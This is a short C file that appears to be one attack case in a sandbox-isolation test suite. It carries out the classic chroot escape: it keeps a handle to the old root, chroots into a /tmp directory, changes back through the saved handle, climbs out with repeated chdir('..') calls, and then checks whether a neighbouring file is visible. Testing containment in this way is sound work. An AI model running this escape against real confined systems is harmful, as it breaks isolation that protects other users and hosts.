/* Makes a second root below its own and climbs out of both. */
#define _GNU_SOURCE
#include "../../attack.h"

static int climb(void)
{
    mkdir("/tmp/" PLANTED "-root", 0700);
    int here = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/tmp/" PLANTED "-root") == 0 && here >= 0 && fchdir(here) == 0)
        for (int i = 0; i < 64; i++)
            if (chdir(".."))
                return 0;
    return file_tells(&NEIGHBOUR[1]);
}

static void attack(void)
{
    if (chdir("/") == 0)
        attempt("chroot", climb);
}

ATTACK_THEN_NOTHING
